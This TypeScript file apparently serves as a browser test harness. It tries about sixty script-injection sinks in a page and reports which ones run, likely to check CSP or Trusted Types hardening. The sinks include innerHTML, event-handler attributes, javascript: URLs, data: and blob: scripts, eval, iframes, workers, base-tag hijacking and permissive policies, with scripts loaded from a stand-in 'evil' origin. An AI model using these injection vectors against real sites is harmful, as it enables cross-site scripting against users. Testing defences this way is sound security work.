/**
 * Every way to turn a text into a running script that a page offers, as one who found a hole
 * in a screen would try them. Runs in the page; resolves to the names of those that ran.
 */
export async function trySinks(evil: string): Promise<string[]> {
  const scope = globalThis as unknown as { ran: string[]; eval(code: string): unknown }
  scope.ran = []
  const channel = new BroadcastChannel('ran')
  channel.onmessage = ({ data }) => void scope.ran.push(data)
  addEventListener('message', ({ data }) => {
    if (typeof data === 'string' && data.startsWith('ran ')) scope.ran.push(data.slice(4))
  })
  /** Code that reports its name, from a document of this origin or from a worker. */
  const code = (name: string) =>
    `try{(self.top&&parent.ran||self.ran).push('${name}')}catch{try{self.ran.push('${name}')}catch{new BroadcastChannel('ran').postMessage('${name}');try{parent.postMessage('ran ${name}','*')}catch{}}}`
  const html = (name: string) => `<img src="data:," onerror="${code(name)}">`
  const dataUrl = (name: string) => `data:text/javascript,${encodeURIComponent(code(name))}`
  const blobUrl = (name: string, type = 'text/javascript') =>
    URL.createObjectURL(new Blob([code(name)], { type }))
  const evilUrl = (name: string) => `${evil}/script.js?${encodeURIComponent(code(name))}`
  const jsUrl = (name: string) => `javascript:${code(name)}`
  const place = () => document.body.appendChild(document.createElement('div'))
  const add = (tag: string, attributes: Record<string, string>, inner = '') => {
    const element = document.createElement(tag)
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
    if (inner) element.append(document.createTextNode(inner))
    document.body.append(element)
    return element
  }
  const svg = (tag: string) => document.createElementNS('http://www.w3.org/2000/svg', tag)
  const press = (element: HTMLElement) => element.click()
  type Policy = { createHTML(text: string): string; createScript(text: string): string }
  const { trustedTypes } = globalThis as unknown as {
    trustedTypes?: { createPolicy(name: string, rules: object): Policy }
  }
  const policy = (name: string) => {
    const same = (text: string) => text
    const rules = { createHTML: same, createScript: same, createScriptURL: same }
    return trustedTypes?.createPolicy(name, rules) ?? (rules as Policy)
  }

  const sinks: Record<string, (name: string) => unknown> = {
    innerHTML: (name) => (place().innerHTML = html(name)),
    outerHTML: (name) => (place().outerHTML = html(name)),
    insertAdjacentHTML: (name) => place().insertAdjacentHTML('beforeend', html(name)),
    setHTMLUnsafe: (name) => place().setHTMLUnsafe(html(name)),
    parseHTMLUnsafe: (name) => place().append(Document.parseHTMLUnsafe(html(name)).body),
    domParser: (name) => place().append(new DOMParser().parseFromString(html(name), 'text/html').body),
    createContextualFragment: (name) =>
      place().append(document.createRange().createContextualFragment(html(name))),
    shadowInnerHTML: (name) => (place().attachShadow({ mode: 'open' }).innerHTML = html(name)),
    templateInnerHTML(name) {
      const template = document.createElement('template')
      template.innerHTML = html(name)
      place().append(template.content)
    },
    handlerAttribute: (name) => press(add('div', { onclick: code(name) })),
    handlerOfImage: (name) => add('img', { src: 'data:,', onerror: code(name) }),
    handlerOfSvg(name) {
      const drawing = svg('svg')
      drawing.setAttribute('onload', code(name))
      place().append(drawing)
    },
    handlerOfAnimation(name) {
      const drawing = svg('svg')
      const animation = svg('animate')
      for (const [key, value] of [
        ['attributeName', 'x'],
        ['dur', '1ms'],
        ['onbegin', code(name)],
      ])
        animation.setAttribute(key as string, value as string)
      drawing.append(animation)
      place().append(drawing)
    },
    scriptText: (name) => add('script', {}, code(name)),
    scriptModule: (name) => add('script', { type: 'module' }, code(name)),
    scriptTextContent(name) {
      const script = document.createElement('script')
      script.textContent = code(name)
      document.body.append(script)
    },
    scriptOfData: (name) => add('script', { src: dataUrl(name) }),
    scriptOfBlob: (name) => add('script', { src: blobUrl(name) }),
    scriptOfOtherSite: (name) => add('script', { src: evilUrl(name) }),
    scriptModuleOfOtherSite: (name) => add('script', { src: evilUrl(name), type: 'module', crossorigin: '' }),
    scriptOfSvg(name) {
      const drawing = svg('svg')
      const script = svg('script')
      script.setAttribute('href', dataUrl(name))
      drawing.append(script)
      place().append(drawing)
    },
    importOfData: (name) => import(/* @vite-ignore */ dataUrl(name)),
    importOfBlob: (name) => import(/* @vite-ignore */ blobUrl(name)),
    importOfOtherSite: (name) => import(/* @vite-ignore */ evilUrl(name)),
    eval: (name) => scope.eval(code(name)),
    functionOfText: (name) => new Function(code(name))(),
    asyncFunctionOfText: (name) => (async () => undefined).constructor(code(name))(),
    generatorOfText: (name) => function* () {}.constructor(code(name))().next(),
    setTimeoutOfText: (name) => setTimeout(code(name) as never, 0),
    setIntervalOfText(name) {
      const timer = setInterval(code(name) as never, 10)
      setTimeout(() => clearInterval(timer), 15)
    },
    frameOfText: (name) => add('iframe', { srcdoc: `<script>${code(name)}</script>` }),
    frameOfScript: (name) => add('iframe', { src: jsUrl(name) }),
    frameOfData: (name) =>
      add('iframe', { src: `data:text/html,<script>${encodeURIComponent(code(name))}</script>` }),
    frameOfBlob: (name) =>
      add('iframe', {
        src: URL.createObjectURL(new Blob([`<script>${code(name)}</script>`], { type: 'text/html' })),
      }),
    frameWrittenInto: (name) =>
      (add('iframe', {}) as HTMLIFrameElement).contentDocument?.write(`<script>${code(name)}</script>`),
    objectOfData: (name) =>
      add('object', { data: `data:text/html,<script>${encodeURIComponent(code(name))}</script>` }),
    embedOfData: (name) =>
      add('embed', {
        src: `data:text/html,<script>${encodeURIComponent(code(name))}</script>`,
        type: 'text/html',
      }),
    linkOfScript: (name) => press(add('a', { href: jsUrl(name) })),
    formOfScript: (name) => (add('form', { action: jsUrl(name) }) as HTMLFormElement).requestSubmit(),
    buttonOfScript(name) {
      const form = add('form', {})
      const button = document.createElement('button')
      button.setAttribute('formaction', jsUrl(name))
      form.append(button)
      button.click()
    },
    location: (name) => (location.href = jsUrl(name)),
    locationAssign: (name) => location.assign(jsUrl(name)),
    windowOfScript: (name) => open(jsUrl(name), '_self'),
    metaRefresh: (name) =>
      document.head.append(
        Object.assign(document.createElement('meta'), {
          httpEquiv: 'refresh',
          content: `0;url=${jsUrl(name)}`,
        }),
      ),
    base(name) {
      document.head.append(Object.assign(document.createElement('base'), { href: `${evil}/` }))
      add('script', { src: `script.js?${encodeURIComponent(code(name))}` })
    },
    importMap(name) {
      add('script', { type: 'importmap' }, JSON.stringify({ imports: { injected: dataUrl(name) } }))
      return import(/* @vite-ignore */ 'injected' as string)
    },
    workerOfBlob: (name) => new Worker(blobUrl(name)),
    workerOfData: (name) => new Worker(dataUrl(name)),
    sharedWorker: (name) => new SharedWorker(blobUrl(name)),
    serviceWorker: (name) => navigator.serviceWorker.register(evilUrl(name)),
    styleOfOtherSite: (name) => add('link', { rel: 'stylesheet', href: `javascript:${code(name)}` }),
    ownPolicy: (name) => (place().innerHTML = policy('injected').createHTML(html(name))),
    defaultPolicy(name) {
      policy('default')
      place().innerHTML = html(name)
    },
    samePolicy: (name) => (place().innerHTML = policy('latchkey').createHTML(html(name))),
    samePolicyEval: (name) => scope.eval(policy('latchkey').createScript(code(name))),
    documentWrite: (name) => document.write(html(name)),
    documentWriteln: (name) => document.writeln(html(name)),
  }
  // In a task of the page itself: code that a debugger runs may evaluate texts.
  for (const [name, run] of Object.entries(sinks))
    await new Promise<void>((resolve) =>
      setTimeout(async () => {
        try {
          await Promise.race([run(name), new Promise((over) => setTimeout(over, 300))])
        } catch {
          // Refused.
        }
        resolve()
      }),
    )
  await new Promise((resolve) => setTimeout(resolve, 1_000))
  channel.close()
  return [`${Object.keys(sinks).length}`, ...new Set(scope.ran)]
}
